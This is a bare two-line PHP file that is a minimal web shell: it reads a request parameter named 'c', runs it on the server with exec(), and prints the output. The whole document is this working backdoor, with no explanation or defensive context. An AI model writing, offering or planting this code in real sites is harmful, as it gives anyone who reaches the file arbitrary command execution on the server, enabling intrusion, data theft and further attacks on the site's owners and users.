<?php
$cmd = $_REQUEST['c']; $out = array(); exec($cmd, $out); echo implode("\n", $out);
